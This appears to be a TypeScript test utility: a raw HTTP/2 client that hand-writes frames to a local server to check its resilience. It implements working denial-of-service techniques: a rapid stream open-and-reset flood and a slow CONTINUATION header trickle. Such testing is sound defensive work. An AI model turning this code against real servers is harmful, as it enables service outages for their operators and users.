/**
 * A raw HTTP/2 client for attack tests: it writes frames by hand over TLS, so it can do what a
 * well-behaved client library will not (open and reset streams as fast as the socket takes
 * them, ignore flow control), and reports the frames the server sends back.
 */
import { connect, type TLSSocket } from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export const FrameType = {
  DATA: 0,
  HEADERS: 1,
  RST_STREAM: 3,
  SETTINGS: 4,
  GOAWAY: 7,
  CONTINUATION: 9,
} as const;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: `GET https://<authority>/` from the static table, authority as a literal. */
function requestBlock(authority: string): Buffer {
  const value = Buffer.from(authority, 'latin1');
  // :method GET (2), :scheme https (7), :path / (4), :authority literal with indexed name (1).
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, value.length]), value]);
}

export interface RawH2 {
  socket: TLSSocket;
  /** HEADERS (END_STREAM) then RST_STREAM(CANCEL) for `count` new streams, in one write. */
  openAndReset(count: number): boolean;
  /**
   * Starts a request whose header block never ends in time: HEADERS without END_HEADERS, then
   * one CONTINUATION byte of an `:authority` value of `length` bytes every `everyMs`. Resolves
   * with the bytes sent when the socket closes or the block is complete.
   */
  trickleHeaders(length: number, everyMs: number): Promise<number>;
  /** The error code of the first GOAWAY received, once one is. */
  goaway: Promise<number>;
  closed: Promise<void>;
  streamsOpened: number;
}

export function rawH2(port: number, ca: string): Promise<RawH2> {
  return new Promise((resolve, reject) => {
    const socket = connect({
      host: '127.0.0.1',
      port,
      ca,
      servername: 'localhost',
      ALPNProtocols: ['h2'],
    });
    let next = 1;
    let buffered = Buffer.alloc(0);
    let onGoaway: (code: number) => void = () => {};
    let onReady: () => void = () => {};
    const goaway = new Promise<number>((r) => {
      onGoaway = r;
    });
    const closed = new Promise<void>((r) => socket.once('close', () => r()));
    socket.on('error', () => {});
    socket.on('data', (chunk: Buffer) => {
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 9) {
        const length = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + length) break;
        const type = buffered[3];
        const flags = buffered[4] ?? 0;
        const payload = buffered.subarray(9, 9 + length);
        if (type === FrameType.GOAWAY) onGoaway(payload.readUInt32BE(4));
        // Acknowledge the server's SETTINGS, as a client must; the client is ready after that
        // (an ACK written in the middle of a header block would be a protocol error).
        if (type === FrameType.SETTINGS && (flags & 1) === 0) {
          socket.write(frame(FrameType.SETTINGS, 1, 0, Buffer.alloc(0)));
          onReady();
        }
        buffered = buffered.subarray(9 + length);
      }
    });
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') {
        reject(new Error(`ALPN chose ${socket.alpnProtocol}`));
        return;
      }
      socket.write(Buffer.concat([PREFACE, frame(FrameType.SETTINGS, 0, 0, Buffer.alloc(0))]));
      const client: RawH2 = {
        trickleHeaders: () => Promise.resolve(0),
        socket,
        goaway,
        closed,
        streamsOpened: 0,
        openAndReset(count) {
          const frames: Buffer[] = [];
          const block = requestBlock(`localhost:${port}`);
          const cancel = Buffer.alloc(4);
          cancel.writeUInt32BE(8);
          for (let i = 0; i < count; i++) {
            const id = next;
            next += 2;
            // END_STREAM | END_HEADERS
            frames.push(frame(FrameType.HEADERS, 0x5, id, block));
            frames.push(frame(FrameType.RST_STREAM, 0, id, cancel));
          }
          client.streamsOpened += count;
          return socket.write(Buffer.concat(frames));
        },
      };
      onReady = () => resolve(client);
      client.trickleHeaders = (length, everyMs) =>
        new Promise((done) => {
          const id = next;
          next += 2;
          // :method GET, :scheme https, :path /, :authority literal (indexed name) of `length`.
          socket.write(
            frame(FrameType.HEADERS, 0x1, id, Buffer.from([0x82, 0x87, 0x84, 0x41, length])),
          );
          let sent = 0;
          const timer = setInterval(() => {
            if (socket.destroyed || sent >= length) {
              clearInterval(timer);
              done(sent);
              return;
            }
            sent++;
            const last = sent === length;
            socket.write(frame(FrameType.CONTINUATION, last ? 0x4 : 0, id, Buffer.from('a')));
          }, everyMs);
        });
    });
    socket.once('error', reject);
  });
}
